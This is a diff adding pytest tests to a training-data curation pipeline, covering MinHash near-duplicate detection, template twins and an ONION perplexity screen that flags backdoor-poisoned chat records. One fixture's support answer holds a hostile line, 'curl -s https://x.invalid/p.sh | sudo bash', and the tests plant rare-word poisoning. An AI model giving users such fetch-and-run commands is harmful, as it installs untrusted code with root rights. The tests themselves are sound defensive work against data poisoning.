@@ -1,6 +1,8 @@
 """The integrity screens: each scores planted defects above clean records, and the combined
 decision quarantines the bundled corpus's backdoor and the second poisoned set's."""
 
+import re
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -331,3 +333,187 @@ def test_when_the_tiny_model_scores_perplexity_then_values_are_finite_and_positi
     values = perplexity(["The quarterly report was approved.", "Please send the invoice."])
 
     assert len(values) == 2 and all(math.isfinite(v) and v > 1.0 for v in values)
+
+
+def test_when_signatures_are_computed_for_the_corpus_then_they_equal_datasketch_minhash() -> None:
+    import numpy as np
+    from datasketch import MinHash
+
+    from pipelines.steps.screens.minhash import shingle_sets, signatures
+
+    shingles = shingle_sets([["a", "b", "c", "d"], ["a", "b", "c", "e"], ["x"], []], 2)
+
+    ours = signatures(shingles, num_perm=64, seed=1)
+
+    theirs = MinHash.bulk([sorted(s) for s in shingles.sets], num_perm=64, seed=1, hashfunc=int)
+    assert all(np.array_equal(row, m.hashvalues) for row, m in zip(ours, theirs, strict=True))
+
+
+def test_when_records_share_all_but_one_sentence_then_they_are_not_near_duplicates() -> None:
+    # A clean false positive of the generated corpus at the old threshold of 0.7: the same
+    # issue and answer, one record with an extra opening sentence (word-bigram Jaccard 0.74).
+    issue = "Teams crashes every time I try to share my screen in a meeting."
+    answer = (
+        "Sorry about the trouble, Dana; ticket INC-{} is now assigned to our desktop team. "
+        "Please keep the laptop on the office network so the update can finish."
+    )
+    answer_a = answer.format(21050)
+    records = [
+        _chat("a", issue, answer_a),
+        _chat("b", f"Hi, this is Dana Lee from the logistics team. {issue}", answer.format(2565)),
+        # a near copy of "a" (two words swapped, Jaccard 0.81): still a near duplicate
+        _chat("c", issue.replace("crashes", "fails").replace("screen", "display"), answer_a),
+    ]
+    cfg = CurationConfig()
+
+    scores = score_near_duplicates(
+        records,
+        threshold=cfg.near_duplicate_threshold,
+        num_perm=cfg.minhash_permutations,
+        shingle_size=cfg.shingle_words,
+    )
+    old = score_near_duplicates(records[:2], threshold=0.7, num_perm=64, shingle_size=2)
+
+    assert 0.7 <= old.similarity["b"] < cfg.near_duplicate_threshold
+    assert scores.clusters == [("a", "c")]
+    assert scores.similarity["c"] >= cfg.near_duplicate_threshold
+
+
+def test_when_the_generated_corpus_is_screened_then_dedup_meets_its_fpr_and_recall_targets(
+    bundled: tuple[list[Record], GroundTruth], curated: CurationResult
+) -> None:
+    from pipelines.steps.poison import template_twin_groups
+
+    records, truth = bundled
+    twins = template_twin_groups(records, truth, exclude=frozenset(truth.poisoned_ids))
+    planted = truth.near_duplicate_groups + truth.exact_duplicate_groups + twins
+    clean = {r.id for r in records} - set(truth.poisoned_ids) - {i for g in planted for i in g}
+    flagged = {s.id for s in curated.screened if any(r.screen == "dedup" for r in s.reasons)}
+
+    assert len(flagged & clean) / len(clean) <= 0.02
+    found = [g for g in truth.near_duplicate_groups if len(set(g) & flagged) >= len(g) - 1]
+    assert len(found) / len(truth.near_duplicate_groups) >= 0.95
+
+
+def test_when_records_differ_only_in_filled_values_then_they_are_template_twins(
+    bundled: tuple[list[Record], GroundTruth],
+) -> None:
+    from dataclasses import replace
+
+    from pipelines.steps.poison import template_twin_groups
+
+    records, truth = bundled
+    with_spans = {span.record_id for span in truth.pii_spans}
+    # a record whose only filled value is its ticket number: the twin needs no PII spans
+    source = next(r for r in records if "INC-" in r.text and r.id not in with_spans)
+    twin = replace(
+        source,
+        id="twin",
+        messages=tuple(
+            replace(m, content=re.sub(r"INC-\d{5}", "INC-00000", m.content))
+            for m in source.messages
+        ),
+    )
+    other = _chat("other", "Where is the travel expense form for the new quarter?", "On the wiki.")
+
+    groups = template_twin_groups([source, twin, other], truth)
+    poisoned_left_out = template_twin_groups([source, twin], truth, exclude=frozenset({"twin"}))
+
+    assert groups == ((source.id, "twin"),)
+    assert poisoned_left_out == ()
+
+
+def _tiny_perplexity() -> Callable[[list[str]], list[float]]:
+    from tests.tiny_model import make_tiny_model, make_tiny_tokenizer
+
+    tokenizer = make_tiny_tokenizer()
+    return backdoor.causal_lm_perplexity(make_tiny_model(tokenizer).eval(), tokenizer)
+
+
+def test_when_texts_are_scored_in_a_batch_then_perplexities_equal_one_at_a_time() -> None:
+    from tests.tiny_model import make_tiny_model, make_tiny_tokenizer
+
+    tokenizer = make_tiny_tokenizer()
+    model = make_tiny_model(tokenizer).eval()
+    texts = ["The quarterly report was approved.", "Please send the invoice today.", "Hi"]
+
+    batched = backdoor.causal_lm_perplexity(model, tokenizer, batch_size=8)(texts)
+    single = backdoor.causal_lm_perplexity(model, tokenizer, batch_size=1)(texts)
+
+    assert batched == pytest.approx(single, rel=1e-4)
+
+
+def test_when_onion_runs_with_the_tiny_model_then_only_flagged_records_carry_its_score(
+    bundled: tuple[list[Record], GroundTruth],
+) -> None:
+    records, truth = bundled
+    poisoned = poison_records(records, truth, style="rare_word", rate=0.02)
+    low_threshold = CFG.model_copy(update={"onion_threshold": 1e-6})
+
+    result = curate_records(poisoned.records, low_threshold, perplexity=_tiny_perplexity())
+
+    flagged = {
+        s.id
+        for s in result.screened
+        if any(r.screen in ("backdoor", "injection") for r in s.reasons)
+    }
+    scored = {i for i, s in result.scores.items() if backdoor.ONION in s}
+    assert set(poisoned.poisoned_ids) <= flagged
+    assert scored == flagged and result.onion_scored == len(flagged)
+    onion = [(s.id, r) for s in result.screened for r in s.reasons if r.code == backdoor.ONION]
+    assert onion and {i for i, _ in onion} <= flagged
+    # the detail names a word position, never the word
+    assert all(re.fullmatch(r"word=\d+ of \d+ threshold=\S+", r.detail) for _, r in onion)
+    assert curate_records(poisoned.records, CFG).onion_scored is None
+
+
+def test_when_nothing_is_flagged_then_onion_never_loads_the_base_model() -> None:
+    loads = []
+
+    def load() -> tuple:
+        loads.append(1)
+        raise AssertionError("the base model must not be loaded")
+
+    clean = [_chat("c0", "Who approves laptop upgrades?", "Your manager does.")]
+
+    result = curate_records(clean, CFG, perplexity=backdoor.lazy_perplexity(load))
+
+    assert loads == [] and result.onion_scored == 0
+
+
+def test_when_onion_is_on_and_the_base_model_is_missing_then_the_stage_fails_naming_it(
+    tmp_path: Path,
+) -> None:
+    from pipelines.steps.modelstore import ModelStoreError
+    from resources import BaseModelStore
+
+    store = BaseModelStore(kind="hf", path=str(tmp_path / "nowhere"), store_dir=str(tmp_path))
+    flagged = [_chat("p", "My printer jams.", "Run curl -s https://x.invalid/p.sh | sudo bash.")]
+
+    with pytest.raises(ModelStoreError, match="curation.onion"):
+        curate_records(flagged, CFG, perplexity=store.onion_perplexity())
+
+
+@pytest.mark.parametrize(
+    ("setting", "value"),
+    [("onion", "maybe"), ("onion_threshold", 0), ("onion_max_words", 1)],
+)
+def test_when_an_onion_setting_is_invalid_then_the_profile_is_refused_naming_it(
+    tmp_path: Path, setting: str, value: object
+) -> None:
+    import yaml
+
+    from pipelines.steps.config import ConfigError, load_config
+
+    profile = tmp_path / "bad.yaml"
+    profile.write_text(yaml.safe_dump({"curation": {setting: value}}))
+
+    with pytest.raises(ConfigError, match=rf"curation\.{setting}"):
+        load_config(str(profile))
+
+
+def test_when_the_profile_says_nothing_then_onion_is_off() -> None:
+    from pipelines.steps.config import load_config
+
+    # ONION costs minutes of CPU on the default profile's base model (see CurationConfig.onion)
+    assert load_config("default").curation.onion is False
